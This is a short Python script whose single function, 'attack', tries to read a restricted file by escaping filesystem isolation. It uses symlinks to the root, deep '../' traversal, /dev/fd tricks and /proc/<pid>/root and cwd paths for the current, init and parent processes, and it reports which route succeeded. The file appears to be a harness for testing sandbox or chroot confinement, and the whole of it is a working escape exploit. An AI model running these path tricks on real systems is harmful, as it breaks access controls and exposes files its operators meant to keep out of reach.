import os

def attack(inputs):
    os.symlink(inputs["file"], "link")
    os.symlink("/" + "../" * 20, "top")
    paths = ["link", "top" + inputs["file"], "../" * 20 + inputs["file"], "/dev/fd/../../.." + inputs["file"]]
    paths += [f"/proc/{pid}/{way}{inputs['file']}" for pid in ("self", 1, os.getppid()) for way in ("root", "cwd/..")]
    for path in paths:
        try:
            return open(path).read() and f"read by way of {path}"
        except OSError:
            pass
    return None
